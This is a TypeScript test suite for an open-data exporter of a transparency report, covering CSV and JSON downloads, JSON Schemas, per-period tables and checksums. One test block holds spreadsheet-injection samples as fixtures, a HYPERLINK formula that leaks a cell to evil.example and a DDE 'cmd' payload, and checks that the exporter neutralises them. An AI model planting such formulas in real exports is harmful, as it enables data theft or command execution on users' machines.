import path from "node:path";
import { Ajv2020 } from "ajv/dist/2020.js";
import { beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "../../../src/load/csv/parse-csv.ts";
import { readRecords } from "../../../src/load/csv/read-records.ts";
import { parsePartialDate, type PartialDate } from "../../../src/contract/fields/partial-date.ts";
import {
  CHECKSUMS_FILE,
  checksumsSize,
  formatChecksums,
  isChecksummed,
  sha256Hex,
} from "../../../src/output/open-data/checksums.ts";
import { neutraliseFormula, writeCsvTable } from "../../../src/output/open-data/csv-table.ts";
import { parse } from "csv-parse/sync";
import { downloadJsonSchema, type JsonSchema } from "../../../src/output/open-data/json-schema.ts";
import {
  buildOpenDataFiles,
  formatSize,
  listOpenData,
  RECORD_DOWNLOAD_KINDS,
  RECORD_DOWNLOADS,
  schemaFileName,
  type OpenDataFile,
  type RecordDownloadKind,
} from "../../../src/output/open-data/open-data-files.ts";
import {
  ALL_PERIODS,
  blockingEventsByPeriod,
  incidentsByPeriod,
  requestsByPeriod,
} from "../../../src/output/open-data/period-tables.ts";
import { recordsCsv, recordsJson } from "../../../src/output/open-data/record-downloads.ts";
import { contractCell, fieldNames, sortById } from "../../../src/output/open-data/record-values.ts";
import { loadProject, type Project } from "../../../src/load/project/load-project.ts";
import { buildTransparencyReport } from "../../../src/model/report/transparency-report.ts";
import { blockingEventSpec, type BlockingEvent } from "../../../src/contract/schemas/blocking-event.ts";
import { incidentSpec, type Incident } from "../../../src/contract/schemas/incident.ts";
import type { FieldShape, RecordSpec } from "../../../src/contract/schemas/record-spec.ts";
import { requestSpec, type Request } from "../../../src/contract/schemas/request.ts";
import {
  BLOCKING_STATUSES,
  INCIDENT_CATEGORIES,
  OUTCOMES,
  SEVERITIES,
} from "../../../src/contract/schemas/vocabulary.ts";
import { repoRoot } from "../../helpers/fixture-site.ts";
import { recordsOf } from "../../helpers/open-data-records.ts";

/** Reads a CSV download back with the project's own reader. */
function readBack(kind: RecordDownloadKind, csv: string) {
  const spec = RECORD_DOWNLOADS[kind].spec as unknown as RecordSpec<FieldShape>;
  return readRecords(parseCsv(csv, spec.file), spec);
}

/** Valid records of a spec from CSV text (for hand-checked aggregate inputs); fails the test on any problem. */
function parseRecords<T>(spec: RecordSpec<FieldShape>, csv: string): T[] {
  const { records, problems } = readRecords(parseCsv(csv, spec.file), spec);
  expect(problems).toEqual([]);
  return records.map((record) => record.data as T);
}
const asSpec = <S>(spec: S): RecordSpec<FieldShape> => spec as unknown as RecordSpec<FieldShape>;

/** A JSON Schema validator for draft 2020-12 (ajv is already installed with the type checker). */
function validatorFor(schema: JsonSchema) {
  const ajv = new Ajv2020({ strict: true, allErrors: true, formats: { uri: (value: string) => URL.canParse(value) } });
  return ajv.compile(schema);
}

const date = (text: string): PartialDate => {
  const parsed = parsePartialDate(text, true);
  if ("error" in parsed) throw new Error(parsed.error);
  return parsed;
};

const SOURCES = [
  ["the sample data", repoRoot],
  ["the spreadsheet fixture", path.join(repoRoot, "test/fixtures/spreadsheet")],
  [
    "the open-data fixture (quotes, spaces, line breaks, coarse dates, networks)",
    path.join(repoRoot, "test/fixtures/open-data"),
  ],
] as const;

describe.each(SOURCES)("record downloads of %s", (_name, root) => {
  let project: Project;
  beforeAll(async () => {
    project = await loadProject(root);
    expect(project.problems).toEqual([]);
  });

  it.each(RECORD_DOWNLOAD_KINDS)(
    "%s.csv has the contract's columns in order and reads back as the same records (formula-like text with its ')",
    (kind) => {
      const records = recordsOf(project, kind);
      expect(records.length).toBeGreaterThan(0);
      const csv = recordsCsv(RECORD_DOWNLOADS[kind].spec, records);
      const back = readBack(kind, csv);
      expect(back.problems).toEqual([]);
      expect(parseCsv(csv, "x.csv").header).toEqual(Object.keys(RECORD_DOWNLOADS[kind].spec.shape));
      // The one change on the way: text that starts like a formula comes back with the ' the download adds.
      const neutralised = sortById(records).map((record) =>
        Object.fromEntries(
          Object.entries(record).map(([name, value]) => [
            name,
            typeof value === "string" ? neutraliseFormula(value) : (value as unknown),
          ]),
        ),
      );
      expect(back.records.map((record) => record.data)).toStrictEqual(neutralised);
    },
  );

  it.each(RECORD_DOWNLOAD_KINDS)(
    "%s.csv is UTF-8 with a BOM, comma-delimited, CRLF line ends, sorted by id, count always filled",
    (kind) => {
      const records = recordsOf(project, kind);
      const csv = recordsCsv(RECORD_DOWNLOADS[kind].spec, records);
      const bytes = Buffer.from(csv, "utf8");
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      // Every line break between records is CRLF (a bare LF is only allowed inside a quoted cell).
      expect(csv.endsWith("\r\n")).toBe(true);
      expect(csv.split("\r\n").length - 1).toBeGreaterThan(records.length);
      const table = parseCsv(csv, "x.csv");
      expect(table.delimiter).toBe(",");
      const ids = table.rows.map((row) => row.cells[0]);
      expect(ids).toEqual(records.map((r) => r.id).sort());
      if (kind === "requests") {
        const countColumn = table.header.indexOf("count");
        for (const row of table.rows) expect(row.cells[countColumn]).toMatch(/^[1-9]\d*$/);
      }
    },
  );

  it.each(RECORD_DOWNLOAD_KINDS)(
    "%s.json uses the contract's field names and parses back as exactly the same records",
    (kind) => {
      const records = recordsOf(project, kind);
      const json = recordsJson(RECORD_DOWNLOADS[kind].spec, records);
      expect(json.endsWith("}\n]\n")).toBe(true);
      expect(json.split("\n")[1]).toBe("  {");
      const parsed = JSON.parse(json) as Record<string, unknown>[];
      expect(parsed).toStrictEqual(sortById(records));
      const names = fieldNames(RECORD_DOWNLOADS[kind].spec);
      for (const record of parsed) {
        const keys = Object.keys(record);
        expect(keys).toEqual(names.filter((name) => keys.includes(name)));
        expect(Object.values(record)).not.toContain(null);
      }
    },
  );

  it.each(RECORD_DOWNLOAD_KINDS)("every record of %s.json validates against its published JSON Schema", (kind) => {
    const files = buildOpenDataFiles({
      requests: project.requests.map((r) => r.data),
      figures: project.figures.map((f) => f.data),
      blockingEvents: project.blockingEvents.map((e) => e.data),
      incidents: project.incidents.map((i) => i.data),
      report: buildTransparencyReport(
        project.requests.map((r) => r.data),
        "half",
      ),
      periodLength: "half",
      dataUrl: "https://example.org/data/",
    });
    const body = (name: string): string => files.find((file) => file.name === name)?.body ?? "";
    const validate = validatorFor(JSON.parse(body(schemaFileName(kind))) as JsonSchema);
    const records = JSON.parse(body(`${kind}.json`)) as unknown[];
    expect(records.length).toBe(recordsOf(project, kind).length);
    expect(validate(records), JSON.stringify(validate.errors)).toBe(true);
  });
});

describe("contract cells", () => {
  it.each([
    ["unknown", undefined, ""],
    ["text", " as written ", " as written "],
    ["a number", 7, "7"],
    ["yes", true, "yes"],
    ["no", false, "no"],
    ["a half-year", date("2019-H1"), "2019-H1"],
    ["a date-time", date("2021-03-04T10:15:00+01:00"), "2021-03-04T10:15:00+01:00"],
    ["a list", ["subscriber", "metadata"], "subscriber;metadata"],
    ["an empty list", [], ""],
    ["a network with AS number", { asn: 12389, name: "Rostelecom" }, "AS12389 Rostelecom"],
    ["a network given only as AS number", { asn: 8359, name: "AS8359" }, "AS8359"],
    ["a network by name", { name: "Some ISP" }, "Some ISP"],
    ["a list of networks", [{ asn: 1, name: "One" }, { name: "Two" }], "AS1 One;Two"],
  ])("writes %s in contract form", (_what, value, cell) => {
    expect(contractCell(value)).toBe(cell);
  });

  it("refuses a value the contract has no form for", () => {
    expect(() => contractCell({ unexpected: 1 })).toThrow(/No CSV form/);
    expect(() => contractCell(null)).toThrow(/No CSV form/);
  });

  it("quotes cells the RFC 4180 way, and cells with spaces at either end (the reader trims unquoted cells)", () => {
    const csv = writeCsvTable({
      columns: ["a", "b"],
      rows: [
        ["x,y", 'say "hi"'],
        ["two\nlines", ""],
        [" padded", "plain"],
      ],
    });
    expect(csv).toBe('\uFEFFa,b\r\n"x,y","say ""hi"""\r\n"two\nlines",\r\n" padded",plain\r\n');
    expect(parseCsv(csv, "x.csv").rows.map((row) => row.cells)).toEqual([
      ["x,y", 'say "hi"'],
      ["two\nlines", ""],
      [" padded", "plain"],
    ]);
  });
});

describe("downloads that are safe to open in a spreadsheet", () => {
  // Cells as a hostile contributor would write them in the ledger; the reader keeps them as text.
  const HOSTILE = [
    ["authority", '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
    ["legal_basis", "+cmd|' /C calc'!A0"],
    ["notes", "-2+3"],
  ] as const;
  const header =
    "id,received,country,authority,authority_type,route,legal_process,legal_basis,data_requested,accounts,count,outcome,data_disclosed,rejection_reason,contested,gag_order,user_notified,responded,related,notes";
  const row = (id: string, cells: Record<string, string>): string =>
    header
      .split(",")
      .map(
        (column) =>
          cells[column] ??
          {
            id,
            received: "2024-03",
            country: "BE",
            authority_type: "police",
            route: "domestic",
            legal_process: "subpoena",
            data_requested: "subscriber",
            accounts: "1",
            count: "2",
            outcome: "rejected",
            rejection_reason: "other",
            contested: "no",
            gag_order: "no",
            user_notified: "no",
          }[column] ??
          "",
      )
      .map((cell) => `"${cell.replace(/"/g, '""')}"`)
      .join(",");

  it("prefixes text cells that start like a formula with ', leaves numbers and other text alone, keeps JSON exact", () => {
    const cells = Object.fromEntries(HOSTILE);
    const records = parseRecords<Request>(
      asSpec(requestSpec),
      `${header}\r\n${row("req-1", cells)}\r\n${row("req-2", { authority: "Parquet général de Liège", notes: "@SUM(1+1)" })}\r\n`,
    );
    const csv = recordsCsv(requestSpec, records);
    const table = parseCsv(csv, "requests.csv");
    const cellOf = (index: number, column: string): string | undefined =>
      table.rows[index]?.cells[table.header.indexOf(column)];
    for (const [column, text] of HOSTILE) expect(cellOf(0, column)).toBe(`'${text}`);
    expect(cellOf(0, "count")).toBe("2");
    expect(cellOf(0, "received")).toBe("2024-03");
    expect(cellOf(1, "authority")).toBe("Parquet général de Liège");
    expect(cellOf(1, "notes")).toBe("'@SUM(1+1)");
    // The accents are UTF-8 bytes after a BOM, as Excel needs them.
    expect(Buffer.from(csv, "utf8").includes(Buffer.from("Parquet g\u00e9n\u00e9ral de Li\u00e8ge", "utf8"))).toBe(
      true,
    );
    const json = JSON.parse(recordsJson(requestSpec, records)) as Record<string, unknown>[];
    for (const [column, text] of HOSTILE) expect(json[0]?.[column]).toBe(text);
  });

  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@x", "'@x"],
    ["\tx", "'\tx"],
    ["\rx", "'\rx"],
    ["x=1", "x=1"],
    ["", ""],
  ])("writes the text cell %j as %j", (text, written) => {
    const csv = writeCsvTable({ columns: ["t", "n"], rows: [[text, -1]] });
    // Read with csv-parse itself: the project's reader turns a lone carriage return into a line feed.
    expect(parse(csv, { bom: true })).toEqual([
      ["t", "n"],
      [written, "-1"],
    ]);
  });
});

describe("JSON Schemas of the JSON downloads", () => {
  const schemaOf = (kind: RecordDownloadKind): JsonSchema =>
    downloadJsonSchema(RECORD_DOWNLOADS[kind].schema, {
      id: `https://example.org/data/${schemaFileName(kind)}`,
      title: "T",
      description: "D",
    });
  const itemsOf = (schema: JsonSchema) =>
    schema["items"] as {
      properties: Record<string, Record<string, unknown>>;
      required: string[];
      additionalProperties: boolean;
    };

  it.each(RECORD_DOWNLOAD_KINDS)(
    "%s: an array of records whose properties are the contract's fields in order",
    (kind) => {
      const schema = schemaOf(kind);
      expect(schema).toMatchObject({
        $schema: "https://json-schema.org/draft/2020-12/schema",
        $id: `https://example.org/data/${schemaFileName(kind)}`,
        title: "T",
        description: "D",
        type: "array",
      });
      expect(Object.keys(itemsOf(schema).properties)).toEqual(fieldNames(RECORD_DOWNLOADS[kind].spec));
      expect(itemsOf(schema).additionalProperties).toBe(false);
    },
  );

  it("requires exactly the fields that are never unknown", () => {
    expect(itemsOf(schemaOf("requests")).required).toEqual([
      "id",
      "received",
      "country",
      "data_requested",
      "count",
      "outcome",
      "data_disclosed",
      "related",
    ]);
    expect(itemsOf(schemaOf("blocking-events")).required).toEqual([
      "id",
      "title",
      "country",
      "started",
      "status",
      "targets",
      "hosts",
      "networks",
      "method",
      "confidence",
      "evidence",
      "related",
      "summary",
    ]);
    expect(itemsOf(schemaOf("incidents")).required).toEqual([
      "id",
      "title",
      "category",
      "severity",
      "started",
      "related",
      "summary",
    ]);
  });

  it("lists the allowed words of every enumeration", () => {
    expect(itemsOf(schemaOf("requests")).properties["outcome"]?.["enum"]).toEqual([...OUTCOMES]);
    expect(itemsOf(schemaOf("blocking-events")).properties["status"]?.["enum"]).toEqual([...BLOCKING_STATUSES]);
    expect(itemsOf(schemaOf("incidents")).properties["severity"]?.["enum"]).toEqual([...SEVERITIES]);
    const defs = schemaOf("requests")["$defs"] as Record<
      string,
      { properties: Record<string, { enum?: string[] }>; required: string[] }
    >;
    expect(defs["PartialDate"]?.properties["precision"]?.enum).toEqual(["year", "half", "month", "day", "time"]);
    expect(defs["PartialDate"]?.required).toEqual(["text", "precision", "start", "end"]);
  });

  it("rejects records that break it (so the validation above can fail)", () => {
    const validate = validatorFor(schemaOf("requests"));
    const good = {
      id: "req-1",
      received: date("2024-03"),
      country: "BE",
      data_requested: ["subscriber"],
      count: 1,
      outcome: "pending",
      data_disclosed: [],
      related: [],
    };
    expect(validate([good]), JSON.stringify(validate.errors)).toBe(true);
    expect(validate([{ ...good, outcome: "granted" }])).toBe(false);
    expect(validate([{ ...good, count: 0 }])).toBe(false);
    expect(validate([{ ...good, contested: "yes" }])).toBe(false);
    expect(validate([{ ...good, extra: 1 }])).toBe(false);
    expect(validate([{ ...good, received: { text: "2024-03" } }])).toBe(false);
    const { country: _dropped, ...withoutCountry } = good;
    expect(validate([withoutCountry])).toBe(false);
  });
});

// Hand-checked inputs for the by-period tables.
const REQUESTS_CSV = `id,received,country,data_requested,accounts,count,outcome,data_disclosed,rejection_reason,responded
r-1,2024-01-10,BE,subscriber,3,2,disclosed,subscriber,,2024-01-20
r-2,2024-03,DE,subscriber,,,rejected,,overbroad,2024-04-01
r-3,2024,FR,metadata,,,pending,,,
r-4,2024-08-05,BE,metadata,1,,no_data,,,2024-08-09
`;

describe("requests per period", () => {
  const requests = parseRecords<Request>(asSpec(requestSpec), REQUESTS_CSV);
  const table = requestsByPeriod(buildTransparencyReport(requests, "half"));

  it("has one row per period, a withheld row for a request dated only to the year, then the all row", () => {
    expect(table.columns).toEqual([
      "period",
      "label",
      "start",
      "end",
      "requests",
      "records",
      "accounts",
      "requests_with_accounts",
      ...OUTCOMES.map((o) => `outcome_${o}`),
      "decided",
      "disclosing",
      "disclosure_rate",
      "median_days_to_respond",
    ]);
    // outcome columns: disclosed, partially_disclosed, no_data, rejected, pending, withdrawn
    expect(table.rows).toEqual([
      [
        "2024-h1",
        "First half of 2024",
        "2024-01-01",
        "2024-06-30",
        "3",
        "2",
        "3",
        "2",
        "2",
        "0",
        "0",
        "1",
        "0",
        "0",
        "3",
        "2",
        "0.6667",
        "10",
      ],
      [
        "2024-h2",
        "Second half of 2024",
        "2024-07-01",
        "2024-12-31",
        "1",
        "1",
        "1",
        "1",
        "0",
        "0",
        "1",
        "0",
        "0",
        "0",
        "1",
        "0",
        "0.0000",
        "4",
      ],
      [
        "2024-withheld",
        "2024, half-year withheld",
        "2024-01-01",
        "2024-12-31",
        "1",
        "1",
        "", // r-3 does not say how many accounts: blank, never 0
        "0",
        "0",
        "0",
        "0",
        "0",
        "1",
        "0",
        "0",
        "0",
        "",
        "",
      ],
      [
        ALL_PERIODS,
        "All periods",
        "2024-01-01",
        "2024-12-31",
        "5",
        "4",
        "4",
        "3",
        "2",
        "0",
        "1",
        "1",
        "1",
        "0",
        "4",
        "2",
        "0.5000",
        "10",
      ],
    ]);
  });

  it("writes an all row of zeros and blanks when there are no requests (accounts blank: not recorded)", () => {
    expect(requestsByPeriod(buildTransparencyReport([], "half")).rows).toEqual([
      [ALL_PERIODS, "All periods", "", "", "0", "0", "", "0", "0", "0", "0", "0", "0", "0", "0", "0", "", ""],
    ]);
  });
});

const EVENTS_CSV = `id,title,country,started,ended,status,targets,confidence,summary
e-1,A,RU,2020-03,2020-04-02,lifted,smtp,measured,S
e-2,B,RU,2020-05-01,,ongoing,imap,measured,S
e-3,C,IR,2021,,unknown,webmail,reported,S
e-4,D,CN,2021-09-10,,partial,vpn,measured,S
`;

describe("blocking events per period", () => {
  const events = parseRecords<BlockingEvent>(asSpec(blockingEventSpec), EVENTS_CSV);

  it("counts events by the half-year they started in, with empty halves, a withheld bucket for a bare year, and an all row", () => {
    const table = blockingEventsByPeriod(events, "half");
    expect(table.columns).toEqual([
      "period",
      "label",
      "start",
      "end",
      "started",
      ...BLOCKING_STATUSES.map((s) => `status_${s}`),
      "countries",
    ]);
    // status columns: ongoing, lifted, partial, unknown
    expect(table.rows).toEqual([
      ["2020-h1", "First half of 2020", "2020-01-01", "2020-06-30", "2", "1", "1", "0", "0", "1"],
      ["2020-h2", "Second half of 2020", "2020-07-01", "2020-12-31", "0", "0", "0", "0", "0", "0"],
      ["2021-h1", "First half of 2021", "2021-01-01", "2021-06-30", "0", "0", "0", "0", "0", "0"],
      ["2021-h2", "Second half of 2021", "2021-07-01", "2021-12-31", "1", "0", "0", "1", "0", "1"],
      ["2021-withheld", "2021, half-year withheld", "2021-01-01", "2021-12-31", "1", "0", "0", "0", "1", "1"],
      [ALL_PERIODS, "All periods", "2020-01-01", "2021-12-31", "4", "1", "1", "1", "1", "3"],
    ]);
  });

  it("puts a bare year in its year when periods are years", () => {
    expect(blockingEventsByPeriod(events, "year").rows.map((row) => [row[0], row[4], row.at(-1)])).toEqual([
      ["2020", "2", "1"],
      ["2021", "2", "2"],
      [ALL_PERIODS, "4", "3"],
    ]);
  });
});

const INCIDENTS_CSV = `id,title,category,severity,started,resolved,accounts_affected,summary
i-1,A,abuse,high,2022-06-14T02:10:00Z,2022-06-16,5,S
i-2,B,security,low,2022-02,,,S
i-3,C,outage,critical,2022-H2,,0,S
i-4,D,abuse,high,2022-11-30,2022-12-01,2,S
`;

describe("incidents per period", () => {
  it("counts incidents by category, severity and still open, and sums the accounts affected that are known", () => {
    const incidents = parseRecords<Incident>(asSpec(incidentSpec), INCIDENTS_CSV);
    const table = incidentsByPeriod(incidents, "half");
    expect(table.columns).toEqual([
      "period",
      "label",
      "start",
      "end",
      "incidents",
      ...INCIDENT_CATEGORIES.map((c) => `category_${c}`),
      ...SEVERITIES.map((s) => `severity_${s}`),
      "open",
      "accounts_affected",
    ]);
    // categories: abuse, security, outage, legal, account_action, other; severities: low, medium, high, critical
    expect(table.rows).toEqual([
      [
        "2022-h1",
        "First half of 2022",
        "2022-01-01",
        "2022-06-30",
        "2",
        "1",
        "1",
        "0",
        "0",
        "0",
        "0",
        "1",
        "0",
        "1",
        "0",
        "1",
        "5",
      ],
      [
        "2022-h2",
        "Second half of 2022",
        "2022-07-01",
        "2022-12-31",
        "2",
        "1",
        "0",
        "1",
        "0",
        "0",
        "0",
        "0",
        "0",
        "1",
        "1",
        "1",
        "2",
      ],
      [
        ALL_PERIODS,
        "All periods",
        "2022-01-01",
        "2022-12-31",
        "4",
        "2",
        "1",
        "1",
        "0",
        "0",
        "0",
        "1",
        "0",
        "2",
        "1",
        "2",
        "7",
      ],
    ]);
  });
});

describe("checksums", () => {
  // SHA-256 of "abc" is the FIPS 180-2 test vector.
  const ABC = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";

  it("hashes bytes and writes sha256sum's format, sorted by name", () => {
    expect(sha256Hex("abc")).toBe(ABC);
    expect(sha256Hex(new TextEncoder().encode("abc"))).toBe(ABC);
    const text = formatChecksums([
      { name: "schema/b.json", sha256: ABC },
      { name: "a.csv", sha256: ABC },
    ]);
    expect(text).toBe(`${ABC}  a.csv\n${ABC}  schema/b.json\n`);
    expect(checksumsSize(["schema/b.json", "a.csv"])).toBe(Buffer.byteLength(text));
  });

  it("refuses names sha256sum would escape, and covers downloads but not itself or the page", () => {
    expect(() => formatChecksums([{ name: "a\nb", sha256: ABC }])).toThrow(/escaping/);
    expect(isChecksummed("requests.csv")).toBe(true);
    expect(isChecksummed("schema/requests.schema.json")).toBe(true);
    expect(isChecksummed(CHECKSUMS_FILE)).toBe(false);
    expect(isChecksummed("index.html")).toBe(false);
    expect(isChecksummed("corrections.csv")).toBe(true);
    expect(isChecksummed("corrections/index.html")).toBe(false);
    expect(isChecksummed("corrections/rss.xml")).toBe(false);
  });
});

describe("downloads listing", () => {
  it("gives each file its size in bytes and adds the checksum list", () => {
    const files: OpenDataFile[] = [
      { name: "a.csv", description: "A", format: "CSV", mediaType: "text/csv", rows: 1, body: "h\né\n" },
      {
        name: "schema/a.schema.json",
        description: "S",
        format: "JSON Schema",
        mediaType: "application/schema+json",
        rows: undefined,
        body: "{}\n",
      },
    ];
    expect(listOpenData(files).map(({ name, rows, size }) => ({ name, rows, size }))).toEqual([
      { name: "a.csv", rows: 1, size: 5 },
      { name: "schema/a.schema.json", rows: undefined, size: 3 },
      { name: CHECKSUMS_FILE, rows: 2, size: 2 * 67 + "a.csv".length + "schema/a.schema.json".length },
    ]);
    // The dataset releases' files are in the data folder's checksum list too.
    const release = ["releases/2025.2/SHA256SUMS", "releases/2025.2/a.csv"];
    const [, , checksums] = listOpenData(files, release);
    const names = [...files.map((file) => file.name), ...release];
    expect(checksums).toMatchObject({ name: CHECKSUMS_FILE, rows: 4 });
    expect(checksums?.size).toBe(formatChecksums(names.map((name) => ({ name, sha256: sha256Hex(name) }))).length);
  });

  it.each([
    [0, "0 bytes"],
    [999, "999 bytes"],
    [1000, "1.0 kB"],
    [23_507, "23.5 kB"],
  ])("shows %i bytes as %s", (bytes, text) => {
    expect(formatSize(bytes)).toBe(text);
  });
});
